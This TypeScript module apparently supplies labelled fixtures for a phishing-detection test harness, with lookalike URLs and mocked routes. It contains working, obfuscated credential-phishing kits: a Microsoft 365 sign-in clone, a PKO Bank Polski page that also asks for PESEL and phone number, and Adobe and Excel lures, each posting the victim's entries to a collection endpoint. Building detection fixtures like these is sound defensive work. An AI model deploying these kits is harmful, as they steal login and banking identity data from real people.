import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, b64, charCodes, xorHex, imgRoute } from '../parts/r-kit.js';
import { jsRoute } from '../parts/e-bin.js';

const m365Inner = `<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#e6e6e6}.bx{width:440px;margin:100px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;margin-top:24px}</style>
<div class="bx"><img src="/x/ms.png" width="108" height="24" alt="Microsoft"><h2 style="font-weight:600">Sign in</h2><p style="font-size:13px">Verify your account to view the secure message from your administrator.</p>
<form id="k"><input id="a" type="email" placeholder="someone@example.com"><br><br><input id="b" type="password" placeholder="Password"><button>Sign in</button></form><div style="clear:both"></div></div>`;

const excelForm = `<div style="font-family:Segoe UI,Arial;max-width:420px;margin:70px auto;border:1px solid #ccc;padding:28px;background:#fff"><div style="background:#217346;color:#fff;padding:8px 12px;font-weight:600">Excel Online</div>
<h3>Purchase_Order_PO-77821.xlsx</h3><p style="font-size:13px;color:#555">This document is protected. Confirm your email credentials to open.</p>
<input id="eml" style="width:100%;padding:9px;margin:5px 0" placeholder="Email"><input id="pwd" type="password" style="width:100%;padding:9px;margin:5px 0" placeholder="Password"><button id="go" style="width:100%;padding:10px;background:#217346;color:#fff;border:0">Open document</button></div>`;

const pkoInner = `<div class="t">PKO Bank Polski</div><div class="b"><h2>Logowanie do serwisu iPKO</h2><p class="w">Wykryliśmy nieautoryzowane logowanie. Twoje konto zostało tymczasowo zablokowane. Zaloguj się, aby potwierdzić tożsamość.</p>
<form id="pf"><label>Numer klienta lub login</label><input name="login"><label>Hasło</label><input name="haslo" type="password"><label>PESEL</label><input name="pesel"><label>Numer telefonu</label><input name="tel"><button>Dalej</button></form></div>`;

const adobeKitJs = (() => {
  const strs = ['createElement', 'innerHTML', 'body', 'appendChild', 'POST', '/cdn-cgi/trace/collect', 'Adobe Document Cloud', 'Confirm your email identity to download the shared PDF', 'email', 'password', 'Download PDF', 'value', 'then', 'Invalid login, please retry', 'querySelector'];
  const arr = strs.map((s) => b64(s));
  return `var _0x1f2a=${JSON.stringify(arr)};(function(_0x3b,_0x41){var _0x2c=function(_0x9){while(--_0x9){_0x3b['push'](_0x3b['shift']());}};_0x2c(++_0x41);}(_0x1f2a,0x0));
var _0x4e=function(_0x1,_0x2){return atob(_0x1f2a[_0x1]);};
(function(){var d=document,w=d[_0x4e(0)]('div');w.style.cssText='max-width:420px;margin:80px auto;font-family:Arial;border:1px solid #ddd;border-top:6px solid #eb1000;padding:24px;background:#fff';
w[_0x4e(1)]='<h2>'+_0x4e(6)+'</h2><p style="color:#555">'+_0x4e(7)+'</p><p style="font-size:13px">📄 Remittance_Advice_0914.pdf (412 KB)</p><input id="q1" type="email" placeholder="'+_0x4e(8)+'" style="width:100%;padding:9px;margin:4px 0"><input id="q2" type="password" placeholder="'+_0x4e(9)+'" style="width:100%;padding:9px;margin:4px 0"><button id="q3" style="width:100%;background:#eb1000;color:#fff;border:0;padding:10px">'+_0x4e(10)+'</button><p id="q4" style="color:#c00"></p>';
d[_0x4e(2)][_0x4e(3)](w);var c=0;d[_0x4e(14)]('#q3').onclick=function(){c++;fetch(_0x4e(5),{method:_0x4e(4),body:JSON.stringify({u:d[_0x4e(14)]('#q1')[_0x4e(11)],p:d[_0x4e(14)]('#q2')[_0x4e(11)],c:c})})[_0x4e(12)](function(){d[_0x4e(14)]('#q4').textContent=_0x4e(13);});};})();`;
})();

export const entries: Entry[] = [
{
  id: 'r-obf-b64-docwrite-m365',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://securemsg-viewer.azurewebsites-cdn.net/x/msg.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>&#8203;</title></head><body>
<script>
/* v2.4.1 */ var _p='${b64(m365Inner)}';
document.write(decodeURIComponent(escape(window.atob(_p))));
document.title=String.fromCharCode(83,105,103,110,32,105,110);
setTimeout(function(){var f=document.getElementById('k');if(!f)return;f.onsubmit=function(e){e.preventDefault();
var x=new XMLHttpRequest();x.open('POST',atob('${b64('/x/api/v1/log.php')}'));x.send(JSON.stringify({a:document.getElementById('a').value,b:document.getElementById('b').value,ip:'',ua:navigator.userAgent}));
setTimeout(function(){location.href=atob('${b64('https://outlook.office.com/mail/')}')},800);};},50);
</script></body></html>`,
  routes: {
    'securemsg-viewer.azurewebsites-cdn.net/x/ms.png': imgRoute(115, 115, 115),
    'securemsg-viewer.azurewebsites-cdn.net/x/api/v1/log.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'OK' },
  },
},
{
  id: 'r-obf-xor-hex-pko-pl',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://ipko-weryfikacja-konta.pl/logowanie/',
  body: doc({ lang: 'pl', title: 'iPKO – Logowanie', css: `body{margin:0;font-family:"pko_bank_polski",Arial,sans-serif;background:#eef1f5}.t{background:#003574;color:#fff;padding:16px 10%;font-weight:700;font-size:20px}.b{max-width:440px;margin:30px auto;background:#fff;padding:26px}
input{width:100%;padding:10px;border:1px solid #b5b5b5;margin:4px 0 12px}button{background:#003574;color:#fff;border:0;padding:11px 30px}.w{color:#c00;font-size:14px}` },
`<div id="app"><noscript>Włącz obsługę JavaScript.</noscript></div>
<script>
(function(k,h){var o='';for(var i=0;i<h.length;i+=4){o+=String.fromCharCode(parseInt(h.substr(i,4),16)^k);}document.getElementById('app').innerHTML=o;
document.getElementById('pf').addEventListener('submit',function(e){e.preventDefault();var fd=new FormData(this),q={};fd.forEach(function(v,n){q[n]=v;});
fetch('/logowanie/api/'+btoa('s'+Date.now()).slice(0,8),{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(q)}).then(function(){location.href='/logowanie/sms.html';});});
})(${0x5a},'${xorHex(pkoInner, 0x5a)}');
</script>`),
},
];
